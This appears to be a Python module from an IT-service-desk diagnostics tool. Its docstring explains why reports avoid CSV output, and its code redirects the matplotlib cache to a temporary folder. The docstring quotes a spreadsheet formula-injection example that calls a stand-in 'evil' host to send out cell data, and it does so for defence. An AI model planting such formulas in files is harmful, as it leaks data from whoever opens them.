"""Output hygiene shared by everything that writes files for people.

- No CSV for users: reports are terminal text, Markdown, HTML and JSON, and the batch
  index is Markdown and JSON. Ticket text is written by strangers, and
  ``=HYPERLINK("http://evil/?"&A1)`` typed into a summary would become a live formula
  in a CSV opened in Excel, LibreOffice or Google Sheets; a CSV output for users would
  first need its cells escaped (a leading ``'`` before ``=``, ``+``, ``-``, ``@``, tab
  or carriage return). ``tests/hostile/test_safe_outputs.py`` fails when a module
  starts writing CSV. The sample writers in :mod:`itsm_diag.writers` are the exception
  on purpose: they imitate what ServiceNow, Jira, Zendesk and Freshservice export, byte
  for byte, so the importers are tested against real-looking files.
- :func:`private_matplotlib_config`: matplotlib writes a font cache to ``~/.cache`` or
  ``~/.config`` on first import; the HTML report points it at a private temporary folder
  deleted when the process exits, so a run leaves nothing behind but the report.
"""

from __future__ import annotations

import atexit
import os
import shutil
import sys
import tempfile

_mpl_dir: str | None = None


def private_matplotlib_config() -> None:
    """Point matplotlib's config and cache at a private temporary folder, removed at exit
    (before matplotlib is first imported; a user's own ``MPLCONFIGDIR`` wins)."""
    global _mpl_dir
    if _mpl_dir is not None or "matplotlib" in sys.modules or os.environ.get("MPLCONFIGDIR"):
        return
    from multiprocessing import util

    _mpl_dir = tempfile.mkdtemp(prefix="itsm-diag-mpl-")
    os.environ["MPLCONFIGDIR"] = _mpl_dir
    atexit.register(shutil.rmtree, _mpl_dir, ignore_errors=True)
    # batch workers leave through multiprocessing, which skips atexit but runs these
    util.Finalize(None, shutil.rmtree, args=(_mpl_dir,), kwargs={"ignore_errors": True},
                  exitpriority=0)
